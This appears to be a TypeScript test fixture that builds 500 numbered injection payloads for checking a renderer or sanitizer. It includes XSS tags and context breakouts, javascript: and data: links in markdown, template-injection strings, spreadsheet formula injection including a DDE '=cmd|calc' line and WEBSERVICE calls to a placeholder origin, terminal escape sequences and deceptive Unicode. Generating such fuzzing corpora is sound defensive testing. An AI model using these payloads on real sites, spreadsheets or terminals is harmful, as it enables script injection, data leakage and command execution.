/** Another origin; nothing there answers. */
export const AWAY = 'https://away.invalid'
export const HOW_MANY = 500

/** What one payload does if it is taken for more than text: it tells its number, or asks another origin for it. */
type Make = (f: string, away: string) => string

const TAGS: readonly Make[] = [
  (f) => `<script>${f}</script>`,
  (f) => `<script type=module>${f}</script>`,
  (_, a) => `<script src=${a}.js></script>`,
  (f) => `<img src=x onerror=${f}>`,
  (f) => `<img src=data:, onerror=${f}>`,
  (_, a) => `<img src=${a}.png>`,
  (_, a) => `<img srcset="${a}.png 1x">`,
  (f) => `<svg onload=${f}></svg>`,
  (f) => `<svg><script>${f}</script></svg>`,
  (f) => `<svg><image href=x onerror=${f}></svg>`,
  (_, a) => `<svg><image href=${a}.svg></svg>`,
  (f) => `<svg><animate attributeName=x dur=1ms onbegin=${f}></svg>`,
  (f) => `<svg><foreignObject><img src=x onerror=${f}></foreignObject></svg>`,
  (f) => `<math><mtext><img src=x onerror=${f}></mtext></math>`,
  (f) => `<math><a xlink:href="javascript:${f}"><mtext>go</mtext></a></math>`,
  (f) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${f}></annotation-xml></math>`,
  (f) => `<iframe srcdoc="<script>parent.${f}</script>"></iframe>`,
  (f) => `<iframe src="javascript:parent.${f}"></iframe>`,
  (_, a) => `<iframe src=${a}></iframe>`,
  (f) => `<details open ontoggle=${f}>x</details>`,
  (f) => `<video><source onerror=${f}></video>`,
  (f) => `<video src=x onerror=${f}></video>`,
  (_, a) => `<video poster=${a}.jpg></video>`,
  (f) => `<audio src=x onerror=${f}></audio>`,
  (f) => `<input autofocus onfocus=${f}>`,
  (f) => `<object data=x onerror=${f}></object>`,
  (_, a) => `<object data=${a}></object>`,
  (_, a) => `<embed src=${a}>`,
  (f) => `<style onload=${f}></style>`,
  (_, a) => `<style>@import "${a}.css";</style>`,
  (_, a) => `<link rel=stylesheet href=${a}.css>`,
  (_, a) => `<link rel=prefetch href=${a}>`,
  (_, a) => `<p style="background:url(${a}.gif)">x</p>`,
  (_, a) => `<table background=${a}.gif><tr><td>x</table>`,
  (_, a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (_, a) => `<base href=${a}/>`,
  (f, a) => `<form action=${a}><button formaction="javascript:${f}">x</button></form>`,
  (f) => `<body onload=${f} onpageshow=${f}>`,
  (f) => `<marquee onstart=${f}>x</marquee>`,
  (f) => `<xss id=x tabindex=1 onfocus=${f}>x</xss>`,
]

/** Where a tag may be thought to stand: in text, in an attribute, in a comment, in a field, in the state of a page. */
const INTO: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `--><!---->${tag}`,
  (tag) => `</textarea></title></style></script>${tag}`,
  (tag) => `]]>${tag}`,
  (tag) => `\`}</noscript></select></template>${tag}`,
  (tag) => `&lt;/p&gt;\n\n> ${tag}\n\n    ${tag}`,
  (tag) => tag.replaceAll('<', '\\u003c').concat(tag),
  (tag) =>
    tag
      .replace(/ /g, '\t')
      .toUpperCase()
      .replace(/FIRED/g, 'fired')
      .replace(/PARENT/g, 'parent'),
]

const SCHEMES: readonly Make[] = [
  (f) => `javascript:${f}`,
  (f) => `JaVaScRiPt:${f}`,
  (f) => `java\tscript:${f}`,
  (f) => `\u0001javascript:${f}`,
  (f) => `javascript&colon;${f}`,
  (f) => `vbscript:${f}`,
  (f) => `data:text/html,<script>${f}</script>`,
  (f) => `data:text/html;base64,${btoa(`<script>${f}</script>`)}`,
  (f) => `data:image/svg+xml,<svg onload=${f}>`,
  () => 'file:///etc/passwd',
  () => 'blob:null/0',
  (_, a) => `${a}`,
  (_, a) => `//${a.split('//')[1]}`,
  (_, a) => `\\\\${a.split('//')[1]}`,
]

/** A link or an image as somebody writes it. */
const LINKS: readonly ((address: string) => string)[] = [
  (to) => to,
  (to) => `[go](${to})`,
  (to) => `![see](${to})`,
  (to) => `<${to}>`,
  (to) => `[go][1]\n\n[1]: ${to} "t"`,
  (to) => `<a href="${to}" autofocus>go</a>`,
  (to) => `[![see](${to})](${to})`,
]

const UNSEEN: readonly string[] = [
  ...[
    '\u202egnp.exe\u202c',
    '\u2066x\u2069',
    '\u200bzero',
    'a\u200db',
    '\ufeffbom',
    '\u2028line',
    '\u2029par',
    '\u00adsoft',
  ],
  ...[
    '\u{e0061}\u{e0062}tags',
    '\u061carabic',
    '\u180emongol',
    '\u2060joined',
    'p\u0430ypal',
    'app\u200brove',
    '\ufff9a\ufffab\ufffb',
  ],
  ...['\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b]8;;https://away.invalid/link\u0007go\u001b]8;;\u0007'],
  ...[
    '\u001b]52;c;ZXZpbA==\u0007',
    '\u001b[2J\u001b[H',
    '\u001b[?1049h',
    '\u001bP+q544e\u001b\\',
    '\u009b31m',
    '\u001b[6n',
    '\bback',
    'a\rb',
  ],
  ...[
    'e'.concat('\u0301'.repeat(300)),
    '\u0e49'.repeat(200),
    `${'Z\u0337\u0322'.repeat(60)}`,
    '\u0600\u0627'.repeat(40),
  ],
  ...[
    '=1+1',
    '+1',
    '-1+2',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '=cmd|calc!A1',
    '\uff1d1+1',
    '\uff20x',
    `=HYPERLINK("${AWAY}/x","go")`,
  ],
  ...[
    `=WEBSERVICE("${AWAY}/w")`,
    `=IMAGE("${AWAY}/i.png")`,
    '"=1+1',
    '%0A=1',
    ';=1',
    "'=1",
    '__proto__',
    'constructor',
    '\\',
    '\0',
  ],
]

const TEMPLATES: readonly Make[] = [
  (f) => `{{constructor.constructor("${f}")()}}`,
  (f) => `\${${f}}`,
  (f) => `#{${f}}`,
  (f) => `<%= ${f} %>`,
  (f) => `{%25 raw %25}${f}`,
  (f) => `{{$on.constructor('${f}')()}}`,
  (f) => `[[\${${f}}]]`,
  (f) => `*{${f}}`,
  (f) => `{php}${f}{/php}`,
  (f) => `@(${f})`,
]

/** So many strings that do something where they are taken for more than text, each with a number of its own. */
export function payloads(): string[] {
  const all = [
    ...INTO.flatMap((into) =>
      TAGS.map(
        (make): Make =>
          (f, a) =>
            into(make(f, a)),
      ),
    ),
    ...LINKS.flatMap((link) =>
      SCHEMES.map(
        (make): Make =>
          (f, a) =>
            link(make(f, a)),
      ),
    ),
    ...TEMPLATES,
    ...UNSEEN.map(
      (text): Make =>
        () =>
          text,
    ),
  ]
  const made = all.map((make, n) => make(`fired(${n})`, `${AWAY}/${n}`))
  if (new Set(made).size < HOW_MANY) throw new Error(`There are ${new Set(made).size} payloads.`)
  // Of each kind some fall away.
  const every = all.length / HOW_MANY
  return Array.from({ length: HOW_MANY }, (_, at) => made[Math.floor(at * every)] ?? '')
}
